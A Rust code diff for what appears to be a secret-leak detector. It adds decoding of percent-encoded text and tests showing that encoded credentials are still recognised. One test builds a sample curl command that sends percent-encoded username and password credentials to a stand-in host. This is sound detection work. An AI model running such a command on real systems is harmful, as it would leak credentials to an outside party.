@@ -381,6 +381,10 @@ fn secret_forms(v: &str) -> Vec<String> {
 pub fn decoded_candidates(text: &str) -> Vec<String> {
     use base64::Engine as _;
     let mut out = Vec::new();
+    // Percent-encoding (`%73%6b%5f…`), as a URL or a form carries it.
+    if let Some(t) = percent_decoded(text) {
+        out.push(t);
+    }
     let pieces = text
         .split(|c: char| {
             c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '&' | '?' | ',' | ';' | '=' | ':')
@@ -420,6 +424,38 @@ pub fn decoded_candidates(text: &str) -> Vec<String> {
         }
     }
     out
+}
+
+/// `text` with its `%XX` escapes decoded, when it has at least six of them and decodes to
+/// printable UTF-8.
+fn percent_decoded(text: &str) -> Option<String> {
+    let bytes = text.as_bytes();
+    let mut out = Vec::with_capacity(bytes.len());
+    let mut escapes = 0;
+    let mut i = 0;
+    while let Some(&b) = bytes.get(i) {
+        let hex = bytes
+            .get(i + 1..i + 3)
+            .and_then(|h| std::str::from_utf8(h).ok())
+            .and_then(|h| u8::from_str_radix(h, 16).ok());
+        match (b, hex) {
+            (b'%', Some(v)) => {
+                out.push(v);
+                escapes += 1;
+                i += 3;
+            }
+            _ => {
+                out.push(b);
+                i += 1;
+            }
+        }
+    }
+    if escapes < 6 {
+        return None;
+    }
+    String::from_utf8(out)
+        .ok()
+        .filter(|t| t.chars().all(|c| !c.is_control() || c.is_whitespace()))
 }
 
 fn base32_decode(s: &str) -> Option<Vec<u8>> {
@@ -565,7 +601,20 @@ mod tests {
                     .into_iter()
                     .any(|c| s.knows(&k, c)))
         );
+        // Percent-encoded whole (`curl -u '%58%79…'`).
+        let pct: String = "user:Xy7pQ2lmN9zz"
+            .bytes()
+            .map(|b| format!("%{b:02x}"))
+            .collect();
+        assert!(
+            super::decoded_candidates(&format!("curl -u '{pct}' https://x.example"))
+                .iter()
+                .any(|d| super::outbound_candidates(d)
+                    .into_iter()
+                    .any(|c| s.knows(&k, c)))
+        );
         assert!(super::decoded_candidates("plain words only here").is_empty());
+        assert!(super::percent_decoded("a%20b%20c").is_none());
         let before = s.fingerprints.len();
         s.remember_secret(&k, "short");
         assert_eq!(s.fingerprints.len(), before);
